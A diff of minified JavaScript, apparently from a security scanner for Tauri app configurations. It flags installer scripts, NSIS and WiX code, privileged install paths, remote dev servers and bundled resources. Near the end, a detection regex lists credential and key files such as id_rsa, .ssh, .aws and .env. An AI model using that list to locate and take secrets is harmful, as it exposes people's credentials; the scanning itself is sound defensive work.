+String.raw`IntFmt \$\w+ "?(?:0x)?%[\d.]*[diux]"? \$\w+`,String.raw`(?:Push|StrCpy \$\w+)(?: ${BARE2})+`,`(?:SetOutPath|CreateDirectory|Delete|RMDir(?: /r)?) ${OWN5}`,
+String.raw`SetOutPath "?\$INSTDIR"?`,String.raw`[\w.]+:|\{\{(?:[#/]\w+(?: [\w.]+)*|else)\}\}`],WIX="Wix|Fragment|Product|Package|Media|MediaTemplate|Directory|D\
+irectoryRef|StandardDirectory|Component|ComponentRef|ComponentGroup|ComponentGroupRef|Feature|FeatureRef|Icon|UI|UIRef|Dialog|DialogRef|Control|Text|TextStyle|U\
+IText|Condition|Level|WixVariable|String|MajorUpgrade",XCODE=String.raw`(?:- )?["']?(?:name|title|options|info|properties|bundleIdPrefix|createIntermediateGroups|developmentLanguage|deploymentTarget|iOS|xcodeVersion|fileGroups|configs|debug|release|targets|schemes|type|platform|CFBundle(?:Short)?Version\w*|UI\w+|NS\w+UsageDescription|LS\w+)["']?\s*:[\w ."'/-]*|[\]}[{,]+`,
+CLOSED_TEXTS=new RegExp(`^${CLOSED}$`),TELLING_SHELL=new RegExp(`^(?!(?=${CLOSED}$)(?:${SHELL7.join("|")})$)[^]`),TELLING_NSIS=new RegExp(String.raw`^(?!(?:${NSIS.
+join("|")})(?: [;#][^]*)?$)[^]|\$%|/\*|\*/|^(?:(?!\{\{)[^])*\}\}`,"i"),TELLING_WIX=new RegExp(String.raw`<(?!(?:/|!--|!\[|\?(?:xml|if|ifdef|ifndef|else|elseif|endif)\b|(?:${WIX})(?=[\s/>])))|\b(?:Execute|InstallScope|AllowDowngrades|Impersonate|InstallPrivileges)\s*=|&#|\b(?:System(?:16|64)?Folder|WindowsFolder|StartupFolder|Event\s*=\s*["']DoAction["'])\b`,
+"i"),TELLING_XCODE=new RegExp(`^(?!(?:${XCODE})$)[^]`),MOST_LINES5=2e3,LONGEST_LINE4=4e3;function tellingLines2(file2,layout,telling2){const found12=new Map,logical=logicalLines2(
+file2.text,layout),hasLongTexts=layout.syntax==="shell"&&logical.some(({text:text3})=>beginsLongText(text3,layout));for(const{text:text3,first,last,isJoined}of logical){
+const isComment4=layout.comments.test(text3)&&!(hasLongTexts&&/["'`]|\$\(/.test(text3));if(!(!isJoined&&(isComment4||text3.length<=LONGEST_LINE4&&!telling2.test(
+text3)))){if(found12.size>=MOST_LINES5&&!found12.has(text3))return{lines:[...found12.values()],isCut:!0};found12.set(text3,{text:text3,at:{...(0,import_shared_acegos.topOf)(
+file2.path),line:first,endLine:last}})}}return{lines:[...found12.values()],isCut:!1}}function beginsLongText(text3,{comments}){return comments.test(text3)?!1:text3.
+length>LONGEST_LINE4||text3.includes("<<")||!CLOSED_TEXTS.test(text3)}function logicalLines2(written6,layout){const found12=[];let parts2=[];for(const[index,raw]of withoutComments(
+inLines(written6,layout),layout).split(`
+`).entries()){const text3=raw.replace(/\s+/g," ").trim(),goesOn2=continues(text3,parts2.length===0,layout);if(parts2.push(goesOn2&&layout.syntax!=="xml"?text3.slice(
+0,-1):text3),goesOn2)continue;const whole2=parts2.join(" ").replace(/ +/g," ").trim(),first=index+2-parts2.length,isJoined=parts2.length>1&&layout.syntax!=="xml";
+whole2!==""&&found12.push({text:whole2,first,last:index+1,isJoined}),parts2=[]}const rest2=parts2.join(" ").trim();return rest2===""?found12:[...found12,{text:rest2,
+first:1,last:1,isJoined:!0}]}function inLines(text3,{syntax}){return syntax==="shell"?text3:text3.replace(/\r\n?/g,`
 `)}function continues(text3,isFirst,{syntax,comments}){if(syntax==="lines")return!1;if(syntax==="xml"){const tags=text3.replace(/"[^"]*"|'[^']*'/g,""),[opens3,closes]=[
 tags.lastIndexOf("<"),tags.lastIndexOf(">")];return opens3===closes?!isFirst:opens3>closes}return text3.endsWith("\\")&&(syntax==="nsis"||!isFirst||!comments.test(
 text3))}function withoutComments(text3,{syntax}){return syntax==="xml"?withoutXmlComments(text3):syntax==="nsis"?withoutBlocks(text3):text3}function withoutXmlComments(text3){
-const ends={"<!--":"-->","<?":"?>","<![CDATA[":"]]>"},opening3=/<!--|<\?|<!\[CDATA\[/g,kept=[];let end=0;for(let found12=opening3.exec(text3);found12!==null;found12=
-opening3.exec(text3)){const[mark]=found12,closing=ends[mark]??"",close=text3.indexOf(closing,found12.index+mark.length);if(close<0)break;const until=close+closing.
-length;opening3.lastIndex=until,mark==="<!--"&&(kept.push(text3.slice(end,found12.index),text3.slice(found12.index,until).replace(/[^\n]/g,"")),end=until)}return[
-...kept,text3.slice(end)].join("")}function withoutBlocks(text3){let isInside2=!1,goesOn2=!1;const kept=text3.split(`
-`).map(line=>{const opens3=!isInside2&&!goesOn2&&line.trimStart().startsWith("/*");if(!isInside2&&!opens3)return goesOn2=line.trimEnd().endsWith("\\"),line;const end=line.
-indexOf("*/",opens3?line.indexOf("/*")+2:0);return isInside2=end<0,isInside2?"":line.slice(end+2)});return isInside2?text3:kept.join(`
+if(isTemplate(text3)||text3.includes("<!DOCTYPE"))return text3;const ends={"<!--":"-->","<?":"?>","<![CDATA[":"]]>"},opening3=/<!--|<\?|<!\[CDATA\[/g,kept=[];let end=0;
+for(let found12=opening3.exec(text3);found12!==null;found12=opening3.exec(text3)){const[mark]=found12,closing=ends[mark]??"",close=text3.indexOf(closing,found12.
+index+mark.length);if(close<0)break;const until=close+closing.length;opening3.lastIndex=until,mark==="<!--"&&(kept.push(text3.slice(end,found12.index),text3.slice(
+found12.index,until).replace(/[^\n]/g,"")),end=until)}return[...kept,text3.slice(end)].join("")}function isTemplate(text3){return text3.includes("{{")}function withoutBlocks(text3){
+if(isTemplate(text3))return text3;let isInside2=!1,goesOn2=!1;const kept=[];for(const line of text3.split(`
+`)){const begin=line.trimStart(),opens3=!isInside2&&!goesOn2&&begin.startsWith("/*")&&!begin.startsWith("/*/");if(goesOn2=begin.trimEnd().endsWith("\\"),!isInside2&&
+!opens3){kept.push(line);continue}if(goesOn2)return text3;const end=line.indexOf("*/",opens3?line.indexOf("/*")+2:0);isInside2=end<0,kept.push(isInside2?"":line.
+slice(end+2))}return isInside2?text3:kept.join(`
 `)}function codeGrants(project,kind,place,file2){const{subject,action,weighs}=kind,isBuilt2=file2.content===null?", which isn't in the repository,":"",source=file2.
 path===null?void 0:project.files.get(file2.path),[first]=source===void 0?[]:tellingLines2(source,kind,kind.telling).lines;return[{subject,cause:place,written:`${place}\
 : ${JSON.stringify(short(file2.text))}`,extent:place,content:file2.content,action:action(`${(0,import_shared_acegpst.code)(file2.text)}${isBuilt2}`),example:short(
@@ -8564,52 +8649,40 @@ short(file2.text))}`},source=file2.path===null?void 0:project.files.get(file2.pa
 telling),at2=file2.path===null||file2.content===null?file2.at:(0,import_shared_acegos.topOf)(file2.path);return[{...common3,extent:file2.content??`built to ${file2.
 text}`,content:file2.content??`built to ${file2.text}`,action:action(`the changed ${(0,import_shared_acegpst.code)(file2.text)}${isBuilt2}`),example:short(file2.
 text),weighs:file2.content===null||isCut?weighs.telling:"low",at:at2},...lines2.map(({text:text3,at:line})=>({...common3,extent:`line ${text3}`,action:action((0,import_shared_acegpst.code)(
-short(text3))),example:short(text3),weighs:weighs.telling,at:line}))]}var NO_LINES={lines:[],isCut:!1},INCLUDE=/^[ \t]*(?:!include(?:[ \t]+\/\w+)*|<\?include)[ \t]+["'`]?([^"'`\r\n?]{1,500})/gim,
+short(text3))),example:short(text3),weighs:weighs.telling,at:line}))]}var NO_LINES={lines:[],isCut:!1},INCLUDE=/(?:!include(?:[ \t]+\/[\w=]+)*|<\?include)[ \t]+["'`]?([^"'`\r\n?]{1,500})/gi,
 MOST_FILES4=200;function includedBy2(project,start){const found12=new Map,left2=[start];for(let path=left2.pop();path!==void 0&&found12.size<MOST_FILES4;path=left2.
-pop()){const text3=project.files.get(path)?.text??"",written6=new Set([...text3.matchAll(INCLUDE)].map(([,name=""])=>name.trim()));for(const name of[...written6].
-slice(0,MOST_FILES4)){const included=fileOf2(project,path,name);if(included===void 0||included===start||found12.has(included))continue;const content=project.contents.
-at(included);found12.set(included,{text:name,path:included,content,at:(0,import_shared_acegos.topOf)(included)}),left2.push(included)}}return[...found12.values()]}
-function fileOf2({location,contents},from,written6){const name=written6.replaceAll("\\","/").replace(/^.*[})%]\//,"");return[folderOf(from),location.root].flatMap(
-folder=>joined(folder,name)??[]).find(path=>contents.isFile(path))}function codeSetting({files,...setting44}){return{...setting44,covers:wholly(...files.map(({key:key3})=>key3)),
-reads:(project,platform)=>files.flatMap(({key:key3})=>filesAt(project,platform,key3).flatMap(({file:file2})=>file2.path===null?[]:[file2.path,...includedBy2(project,
-file2.path).map(({path})=>path)])),inConfiguration:(project,platform)=>files.flatMap(({key:key3,kind})=>filesAt(project,platform,key3).flatMap(({place,file:file2})=>[
-...codeGrants(project,kind,place,file2),...(file2.path===null?[]:includedBy2(project,file2.path)).flatMap(included=>textGrants(project,kind,`${place}, included`,
-included))]))}}function filesAt(project,platform,key3){const found12=valueOfKey(project,platform,key3);return found12===void 0?[]:placesIn3(project,found12.value,
-key3.v2)}function placesIn3(project,value,name){return value?.kind==="object"?[...value.entries].flatMap(([key3,entry])=>named6(project,`${name}.${key3}`,entry.
-value)):namedPaths(project,value).map(file2=>({place:value?.kind==="array"?`${name}: ${file2.text}`:name,file:file2}))}function named6(project,place,value){return value.
-kind!=="string"?[]:[{place,file:namedPath(project,value.value,value.at)}]}var ENDING=String.raw`(?: >\s?/dev/null| 2>\s?/dev/null| &>\s?/dev/null| 2>&1| \|\| (?:true|:|exit \d+))*(?: ?;;| ?;)?`,
-SHELL7=["#! ?/(?:usr/)?bin/(?:env )?(?:ba|da)?sh(?: -[a-z]+)*",String.raw`(?:then|else|fi|do|done|esac|\{|\}|;;|true|:|set [-+][a-z]+(?: [a-z]+)?|(?:exit|return)(?: \d+)?)(?: ?;;| ?;)?`,
-`(?:echo|printf)(?: [^$\`<>|&;()]*)?${ENDING}`,`(?:update-desktop-database|update-mime-database|gtk4?-update-icon-cache)(?: [-\\w/.=]+)*${ENDING}`,String.raw`case "?\$\{?\w+\}?"? in`,
-String.raw`[\w|*" -]+\)(?: ;;)?`,String.raw`(?:el)?if \[\[? [^\`();|&<>]* \]\]?(?: ?; then)?`,`(?:el)?if (?:! )?(?:command -v|which|type|hash) [-\\w]+${ENDING}(\
-?: ?;? then)?`],OWN5=String.raw`"\$INSTDIR(?:\\(?!\.\.)[\w .-]+)+"`,VALUE=String.raw`(?:-?[\d.]*|\{[\w-]+\}|\$R?\d)`,BARE2=`(?:"${VALUE}"|'${VALUE}'|${VALUE})`,
-NSIS=["(?:DetailPrint|Abort|MessageBox|Name|Caption|BrandingText|VI\\w+|!echo|!warning|!verbose)(?: [^]*)?",String.raw`(?:License)?LangString \w+ \$\{\w+\} ("[^"]*"|'[^']*'|\`[^\`]*\`)`,
-"!(?:ifn?def|ifmacron?def|if|else(?:if)?|endif|macro|macroend|undef)(?: [^]*)?",String.raw`!define(?: /(?:redef|ifndef|math))* \w+(?: ${BARE2})*`,String.raw`!insertmacro MUI_(?:UN)?(?:PAGE_\w+|LANGUAGE "\w+"|RESERVEFILE\w*)`,
-String.raw`\$\{(?:(?:And|Or)?(?:If|Unless)(?:Not)?|ElseIf(?:Not)?|Else|EndIf|EndUnless|Do|Loop|Break|Continue|Exit\w+|For|Next|Select|Case|Default|EndSelect|Switch|EndSwitch|While|EndWhile)\}(?: [^]*)?`,
-String.raw`(?:Section|SectionEnd|SectionGroup|SectionGroupEnd|Function|FunctionEnd|Var|Return|Nop|Sleep|Goto|ClearErrors|SetErrors|If(?:Errors|Silent|FileExists|Abort)|StrLen|StrCmpS?|Int(?:Op|CmpU?|Fmt)|Pop|Exch|SetDetails\w+|SetAutoClose)(?: [^]*)?`,
-String.raw`(?:Push|StrCpy \$\w+)(?: ${BARE2})+`,`(?:SetOutPath|CreateDirectory|Delete|RMDir(?: /r)?) ${OWN5}`,String.raw`SetOutPath "?\$INSTDIR"?`,String.raw`[\w.]+:|\{\{[#/]?\w+(?: [\w.]+)*\}\}`],
-WIX="Wix|Fragment|Product|Package|Media|MediaTemplate|Directory|DirectoryRef|StandardDirectory|Component|ComponentRef|ComponentGroup|ComponentGroupRef|Feature|F\
-eatureRef|Icon|UI|UIRef|Dialog|DialogRef|Control|Text|TextStyle|UIText|Condition|Level|WixVariable|String|MajorUpgrade",XCODE=String.raw`(?:- )?["']?(?:name|title|options|info|properties|bundleIdPrefix|createIntermediateGroups|developmentLanguage|deploymentTarget|iOS|xcodeVersion|fileGroups|configs|debug|release|targets|schemes|type|platform|CFBundle(?:Short)?Version\w*|UI\w+|NS\w+UsageDescription|LS\w+)["']?\s*:[\w ."'/-]*|[\]}[{,]+`,
-TELLING_SHELL=new RegExp(`^(?!(?:${SHELL7.join("|")})$)[^]`),TELLING_NSIS=new RegExp(String.raw`^(?!(?:${NSIS.join("|")})(?: [;#][^]*)?$)[^]|\$%|\$\{(?:Cmd|\|)\}`,
-"i"),TELLING_WIX=new RegExp(String.raw`<(?!(?:/|!--|!\[|\?(?:xml|if|ifdef|ifndef|else|elseif|endif)\b|(?:${WIX})(?=[\s/>])))|\b(?:Execute|InstallScope|AllowDowngrades)="|\bImpersonate="|\bInstallPrivileges=|\b(?:System(?:16|64)?Folder|WindowsFolder|StartupFolder|Event="DoAction")\b`,
-"i"),TELLING_XCODE=new RegExp(`^(?!(?:${XCODE})$)[^]`),PACKAGE_SCRIPT={subject:"The package",action:what=>`run ${what} as root on people's machines`,telling:TELLING_SHELL,
-comments:/^#(?!!)/,syntax:"shell",weighs:{new:"high",telling:"medium"}},NSIS_CODE={subject:"The installer",action:what=>`run ${what} on people's machines`,telling:TELLING_NSIS,
-comments:/^[;#]/,syntax:"nsis",weighs:{new:"high",telling:"medium"}},NSIS_LANGUAGE={...NSIS_CODE,weighs:{new:"medium",telling:"medium"}},WIX_CODE={subject:"The \
-installer",action:what=>`apply ${what} with the rights of the system`,telling:TELLING_WIX,comments:/^$/,syntax:"xml",weighs:{new:"high",telling:"medium"}},DESKTOP_ENTRY={
-subject:"The desktop",action:what=>`start the app by ${what}`,telling:/^(?:Exec|TryExec|MimeType|DBusActivatable|Path|Actions|Terminal|X-KDE-\w+|OnlyShowIn)\s*=/,
-comments:/^#/,syntax:"lines",weighs:{new:"medium",telling:"medium"}},XCODE_TEMPLATE={subject:"The machine that builds the iOS app",action:what=>`run or sign wit\
-h ${what}`,telling:TELLING_XCODE,comments:/^#/,syntax:"lines",weighs:{new:"high",telling:"medium"}},desktop_entry_default=codeSetting({name:"desktop-entry",rule:"\
-bundle/installer-code-changed",platforms:["linux"],files:[{key:bundleKey("linux.deb.desktopTemplate"),kind:DESKTOP_ENTRY},{key:bundleKey("linux.rpm.desktopTempl\
-ate"),kind:DESKTOP_ENTRY}]}),KEY3={v2:"app.security.devCsp",v1:"tauri.security.devCsp"},setting6={name:"dev-policy",rule:"config/surface-grown",covers:wholly(KEY3),
-inConfiguration(project,platform){const found12=valueOfKey(project,platform,KEY3);return sourcesOf(found12?.value).map(({text:text3,at:at2})=>({extent:text3,subject:"\
-Pages of a developer's build",action:`load what ${(0,import_shared_acegpst.code)(short(text3))} allows`,example:short(text3),written:`${found12?.written}: ${short(
-text3)}`,weighs:"low",at:at2}))}},dev_policy_default=setting6;function sourcesOf(policy){return policy?.kind==="string"?policy.value.split(";").flatMap(directive2=>sourcesIn2(
-directive2,policy.at)):policy?.kind!=="object"?[]:[...policy.entries].flatMap(([name,{value}])=>(value.kind==="array"?itemsOf(value):[value]).flatMap(list=>list.
-kind==="string"?sourcesIn2(`${name} ${list.value}`,list.at):[]))}function sourcesIn2(directive2,at2){const[name,...sources]=directive2.trim().split(/\s+/);return sources.
-map(source=>({text:`${name} ${source}`,at:at2}))}var KEY4={v2:"build.devUrl",v1:"build.devPath"},setting7={name:"dev-server-elsewhere",rule:"config/dev-server-r\
-emote",covers:wholly(KEY4),inConfiguration(project,platform){const found12=valueOfKey(project,platform,KEY4),url=asUrl(asString(found12?.value)??"");if(found12===
-void 0||url===void 0||isThisMachine(url.hostname))return[];const origin=originOf(url);return[{extent:origin,subject:`Pages of ${(0,import_shared_acegpst.code)(origin)}`,
-action:"act as the app on the machines of developers, with everything that is granted to its pages",example:`tauri dev # GET ${short(url.href)}`,written:`${found12.
-written}: ${JSON.stringify(short(url.href))}`,weighs:"medium",at:found12.at}]}},dev_server_elsewhere_default=setting7;function isThisMachine(host){return/^(?:localhost|.*\.localhost|127(?:\.\d+){3}|\[::1\]|0\.0\.0\.0)$/i.
+pop()){const text3=project.files.get(path)?.text.replace(/\\[ \t]*\r?\n/g,"")??"",names4=[...new Set([...text3.matchAll(INCLUDE)].map(([,name=""])=>name.trim()))].
+slice(0,MOST_FILES4);for(const{name,included}of names4.flatMap(name2=>filesOf(project,path,name2))){if(included===start||found12.has(included)||found12.size>=MOST_FILES4)
+continue;const content=project.contents.at(included);found12.set(included,{text:name,path:included,content,at:(0,import_shared_acegos.topOf)(included)}),left2.push(
+included)}}return[...found12.values()]}function filesOf(project,from,written6){const{location,contents}=project,name=written6.replaceAll("\\","/").replace(/^.*[})%]\//,
+""),paths3=[folderOf(from),location.root].flatMap(folder=>joined(folder,name)??[]);if(!/[*?]/.test(name)){const included=paths3.find(path=>contents.isFile(path));
+return included===void 0?[]:[{name:written6,included}]}return paths3.flatMap(path=>matching(project,baseName(path),folderOf(path))).map(({path})=>({name:baseName(
+path),included:path}))}function codeSetting({files,...setting44}){return{...setting44,covers:wholly(...files.map(({key:key3})=>key3)),reads:(project,platform)=>files.
+flatMap(({key:key3})=>filesAt(project,platform,key3).flatMap(({file:file2})=>file2.path===null?[]:[file2.path,...includedBy2(project,file2.path).map(({path})=>path)])),
+inConfiguration:(project,platform)=>files.flatMap(({key:key3,kind})=>filesAt(project,platform,key3).flatMap(({place,file:file2})=>[...codeGrants(project,kind,place,
+file2),...(file2.path===null?[]:includedBy2(project,file2.path)).flatMap(included=>textGrants(project,kind,`${place}, included`,included))]))}}function filesAt(project,platform,key3){
+const found12=valueOfKey(project,platform,key3);return found12===void 0?[]:placesIn3(project,found12.value,key3.v2)}function placesIn3(project,value,name){return value?.
+kind==="object"?[...value.entries].flatMap(([key3,entry])=>named6(project,`${name}.${key3}`,entry.value)):namedPaths(project,value).map(file2=>({place:value?.kind===
+"array"?`${name}: ${file2.text}`:name,file:file2}))}function named6(project,place,value){return value.kind!=="string"?[]:[{place,file:namedPath(project,value.value,
+value.at)}]}var PACKAGE_SCRIPT={subject:"The package",action:what=>`run ${what} as root on people's machines`,telling:TELLING_SHELL,comments:/^#(?!!)/,syntax:"s\
+hell",weighs:{new:"high",telling:"medium"}},NSIS_CODE={subject:"The installer",action:what=>`run ${what} on people's machines`,telling:TELLING_NSIS,comments:/^[;#](?:(?!\*\/|\}\}).)*$/,
+syntax:"nsis",weighs:{new:"high",telling:"medium"}},NSIS_LANGUAGE={...NSIS_CODE,weighs:{new:"medium",telling:"medium"}},WIX_CODE={subject:"The installer",action:what=>`\
+apply ${what} with the rights of the system`,telling:TELLING_WIX,comments:/^$/,syntax:"xml",weighs:{new:"high",telling:"medium"}},DESKTOP_ENTRY={subject:"The de\
+sktop",action:what=>`start the app by ${what}`,telling:/^(?:Exec|TryExec|MimeType|DBusActivatable|Path|Actions|Terminal|X-KDE-\w+|OnlyShowIn)\s*=/,comments:/^#/,
+syntax:"lines",weighs:{new:"medium",telling:"medium"}},XCODE_TEMPLATE={subject:"The machine that builds the iOS app",action:what=>`run or sign with ${what}`,telling:TELLING_XCODE,
+comments:/^#/,syntax:"lines",weighs:{new:"high",telling:"medium"}},desktop_entry_default=codeSetting({name:"desktop-entry",rule:"bundle/installer-code-changed",
+platforms:["linux"],files:[{key:bundleKey("linux.deb.desktopTemplate"),kind:DESKTOP_ENTRY},{key:bundleKey("linux.rpm.desktopTemplate"),kind:DESKTOP_ENTRY}]}),KEY3={
+v2:"app.security.devCsp",v1:"tauri.security.devCsp"},setting6={name:"dev-policy",rule:"config/surface-grown",covers:wholly(KEY3),inConfiguration(project,platform){
+const found12=valueOfKey(project,platform,KEY3);return sourcesOf(found12?.value).map(({text:text3,at:at2})=>({extent:text3,subject:"Pages of a developer's build",
+action:`load what ${(0,import_shared_acegpst.code)(short(text3))} allows`,example:short(text3),written:`${found12?.written}: ${short(text3)}`,weighs:"low",at:at2}))}},
+dev_policy_default=setting6;function sourcesOf(policy){return policy?.kind==="string"?policy.value.split(";").flatMap(directive2=>sourcesIn2(directive2,policy.at)):
+policy?.kind!=="object"?[]:[...policy.entries].flatMap(([name,{value}])=>(value.kind==="array"?itemsOf(value):[value]).flatMap(list=>list.kind==="string"?sourcesIn2(
+`${name} ${list.value}`,list.at):[]))}function sourcesIn2(directive2,at2){const[name,...sources]=directive2.trim().split(/\s+/);return sources.map(source=>({text:`${name}\
+ ${source}`,at:at2}))}var KEY4={v2:"build.devUrl",v1:"build.devPath"},setting7={name:"dev-server-elsewhere",rule:"config/dev-server-remote",covers:wholly(KEY4),
+inConfiguration(project,platform){const found12=valueOfKey(project,platform,KEY4),url=asUrl(asString(found12?.value)??"");if(found12===void 0||url===void 0||isThisMachine(
+url.hostname))return[];const origin=originOf(url);return[{extent:origin,subject:`Pages of ${(0,import_shared_acegpst.code)(origin)}`,action:"act as the app on t\
+he machines of developers, with everything that is granted to its pages",example:`tauri dev # GET ${short(url.href)}`,written:`${found12.written}: ${JSON.stringify(
+short(url.href))}`,weighs:"medium",at:found12.at}]}},dev_server_elsewhere_default=setting7;function isThisMachine(host){return/^(?:localhost|.*\.localhost|127(?:\.\d+){3}|\[::1\]|0\.0\.0\.0)$/i.
 test(host)}var setting8={name:"devtools-in-release",rule:"config/devtools-in-release",covers:["app.windows.*.devtools","tauri.windows.*.devtools"],inConfiguration(project,platform){
 const isDebug2=debugAssertions(project,platform),cause=inspectorFeature(project,platform)??isDebug2("tauri-runtime-wry");if(cause!==void 0)return inspected(project,
 platform,cause);const below9=isDebug2("wry");return below9===void 0?[]:[inAllWindows(below9)]}},devtools_in_release_default=setting8,WITH_INSPECTOR=["tauri","ta\
@@ -8738,8 +8811,8 @@ emoved",key:{v2:"app.security.pattern.use",v1:"tauri.pattern.use"},opens:unless(
 p's pages",action:"send messages to Rust that the isolation hook doesn't see",example:"window.__TAURI_INTERNALS__.invoke('\u2026')"}});function updaterKey(text3){
 if(text3.length>LONGEST11)return{kind:"unclear"};const[,second]=linesOf3(textIn3(text3)??"");if(second===void 0)return{kind:"refused"};const isOpen4=second.endsWith(
 "\r"),key3=keyIn(isOpen4?second.slice(0,-1):second)??{kind:"refused"};return isOpen4&&key3.kind==="key"?{kind:"unclear"}:key3}var LONGEST11=16384;function linesOf3(text3){
-const parts=text3.split(`
-`),last=parts.pop()??"",lines2=parts.map(line=>line.endsWith("\r")?line.slice(0,-1):line);return last===""?lines2:[...lines2,last]}function textIn3(base642){const bytes=bytesIn(
+const parts2=text3.split(`
+`),last=parts2.pop()??"",lines2=parts2.map(line=>line.endsWith("\r")?line.slice(0,-1):line);return last===""?lines2:[...lines2,last]}function textIn3(base642){const bytes=bytesIn(
 base642);if(bytes!==void 0)try{return new TextDecoder("utf-8",{fatal:!0,ignoreBOM:!0}).decode(bytes)}catch{return}}function bytesIn(base642){const bytes=Buffer.
 from(base642,"base64");return bytes.toString("base64")===base642?bytes:void 0}function keyIn(line){const bytes=bytesIn(line);if(bytes?.length!==42||!/^E[dD]$/.test(
 bytes.toString("latin1",0,2)))return;const number=Buffer.from(bytes.subarray(2,10)).reverse().toString("hex").toUpperCase();return{kind:"key",bytes:bytes.toString(
@@ -8797,17 +8870,17 @@ gram that it is for","medium"]],MACOS=[[/^\/\.\.(?:\/|$)/,"lie outside of what i
 m","high"],[/^\/?MacOS\/|(?:^|\/)Frameworks\//i,"be code of the app","high"]];function privilegeAt(target,system,isKnown3){const row=(system==="linux"?LINUX:MACOS).
 find(([place])=>place.test(target));return row!==void 0?{does:row[1],weighs:row[2]}:isKnown3?void 0:privilegeBelow(target,system)}var ABOVE={linux:/^\/(?:etc|etc\/xdg|usr|usr\/(?:lib|share|local|local\/lib)|lib|var|var\/(?:spool|lib))?$/,
 macOS:/^\/(?:Library)?$/i};function privilegeBelow(target,system){return ABOVE[system].test(target)?{does:"take effect by itself, wherever in it the file lies",
-weighs:"high"}:privilegeAt(`${target}/`,system,!0)}function targetOf3(text3){const parts=[];for(const part of text3.replaceAll("\\","/").split("/"))part===""||part===
-"."||(part===".."&&parts.length>0&&parts.at(-1)!==".."?parts.pop():parts.push(part));return`/${parts.join("/")}`}var KEYS3=[{key:bundleKey("linux.deb.files"),system:"\
-linux"},{key:bundleKey("linux.rpm.files"),system:"linux"},{key:bundleKey("linux.appimage.files"),system:"linux"},{key:bundleKey("macOS.files"),system:"macOS"}],
-FILE_TABLES=wholly(...KEYS3.map(({key:key3})=>key3));function packageEntries(project,platform){return KEYS3.filter(({system})=>system===platform).flatMap(({key:key3,
-system})=>{const found12=valueOfKey(project,platform,key3);return found12?.value?.kind!=="object"?[]:[...found12.value.entries].slice(0,MOST_FILES3).flatMap(([name,
-entry])=>{if(entry.value.kind!=="string")return[];const source=namedPath(project,entry.value.value,entry.value.at);return[{written:`${found12.written}: ${name}`,
-system,target:targetOf3(name),source,at:entry.key}]})})}function landedFiles(project,{target,source}){const{path:from}=source,items=from===null?[]:project.contents.
-below(from),unknown3={target,path:null,id:null};if(items.length===0||from===null)return[unknown3];const landed=items.slice(0,MOST_FILES3).map(({path,id})=>{const inside=path.
-slice(from.length).replace(/^\//,"");return{target:inside===""?target:`${target==="/"?"":target}/${inside}`,path,id}});return items.length>MOST_FILES3?[...landed,
-unknown3]:landed}var setting19={name:"package-file",rule:"bundle/file-shipped",covers:[],inConfiguration:(project,platform)=>packageEntries(project,platform).filter(
-entry=>landedFiles(project,entry).some(({target,id})=>!privilegeAt(target,entry.system,id!==null))).flatMap(({target,written:written6,source,at:at2})=>{const common3={
+weighs:"high"}:privilegeAt(`${target}/`,system,!0)}function targetOf3(text3){const parts2=[];for(const part of text3.replaceAll("\\","/").split("/"))part===""||
+part==="."||(part===".."&&parts2.length>0&&parts2.at(-1)!==".."?parts2.pop():parts2.push(part));return`/${parts2.join("/")}`}var KEYS3=[{key:bundleKey("linux.de\
+b.files"),system:"linux"},{key:bundleKey("linux.rpm.files"),system:"linux"},{key:bundleKey("linux.appimage.files"),system:"linux"},{key:bundleKey("macOS.files"),
+system:"macOS"}],FILE_TABLES=wholly(...KEYS3.map(({key:key3})=>key3));function packageEntries(project,platform){return KEYS3.filter(({system})=>system===platform).
+flatMap(({key:key3,system})=>{const found12=valueOfKey(project,platform,key3);return found12?.value?.kind!=="object"?[]:[...found12.value.entries].slice(0,MOST_FILES3).
+flatMap(([name,entry])=>{if(entry.value.kind!=="string")return[];const source=namedPath(project,entry.value.value,entry.value.at);return[{written:`${found12.written}\
+: ${name}`,system,target:targetOf3(name),source,at:entry.key}]})})}function landedFiles(project,{target,source}){const{path:from}=source,items=from===null?[]:project.
+contents.below(from),unknown3={target,path:null,id:null};if(items.length===0||from===null)return[unknown3];const landed=items.slice(0,MOST_FILES3).map(({path,id})=>{
+const inside=path.slice(from.length).replace(/^\//,"");return{target:inside===""?target:`${target==="/"?"":target}/${inside}`,path,id}});return items.length>MOST_FILES3?
+[...landed,unknown3]:landed}var setting19={name:"package-file",rule:"bundle/file-shipped",covers:[],inConfiguration:(project,platform)=>packageEntries(project,platform).
+filter(entry=>landedFiles(project,entry).some(({target,id})=>!privilegeAt(target,entry.system,id!==null))).flatMap(({target,written:written6,source,at:at2})=>{const common3={
 subject:"The package",example:`install ${short(source.text)} ${short(target)}`,written:short(written6),cause:`package ${target}`,at:at2},content=source.content??
 `built to ${source.text}`,isBuilt2=source.content===null?", which isn't in the repository":"";return[{...common3,extent:target,action:`install ${(0,import_shared_acegpst.code)(
 target)}${isBuilt2}`,weighs:"low"},{...common3,extent:content,content,action:`install other content at ${(0,import_shared_acegpst.code)(target)}${isBuilt2}`,weighs:"\
@@ -8908,7 +8981,7 @@ itemsOf(value).flatMap(item=>item.kind==="string"?[{text:item.value,target:void 
 text:text3,target=""},{path}){return(joined(project.location.root,text3)===path?baseName(target):"")||baseName(path)}var PROGRAM=/\.(?:exe|dll|com|scr|sys|ocx|cpl|msix?|so(?:\.\d+)*|dylib|node|bat|cmd|ps1|vbs|wsf|hta|jar|appimage|deb|rpm|pkg)$/i;
 function isProgram3(name){return PROGRAM.test(name)}var OUTSIDE=/^\/|^[A-Za-z]:|\$HOME|~\//;function isBroad({location},text3){const{fixed,pattern}=partsOfPath(
 text3),folder=joined(location.root,fixed);return folder===null||OUTSIDE.test(fixed)||pattern?.split("/").includes("..")?!0:below(folder,location.root)===void 0&&
-folder!==location.root?!1:pattern===void 0||pattern.startsWith("**")||folder!==location.root&&pattern.startsWith("*")}var MOST_ENTRIES=300;function resourceFiles(project,platform){
+folder!==location.root?!1:pattern===void 0||pattern.startsWith("**")||folder!==location.root&&/^[*?[]/.test(pattern)}var MOST_ENTRIES=300;function resourceFiles(project,platform){
 return resourcesOf(project,platform).map((resource,index)=>{const isTold2=index<MOST_ENTRIES,files=isTold2?filesOfPath(project,resource.text):[];return{resource,
 files,takesAll:!isTold2||isBroad(project,resource.text)}})}var SECRET2=/(?:^|\/)(?:\.env(?:\.(?!example|sample|template)[^/]*)?|\.npmrc|\.netrc|id_(?:rsa|ed25519|ecdsa)|[^/]*\.(?:pem|key|p12|pfx|jks|keystore|kdbx|ppk)|credentials(?:\.json)?|\.git|\.ssh|\.aws)(?:\/|$)/i,
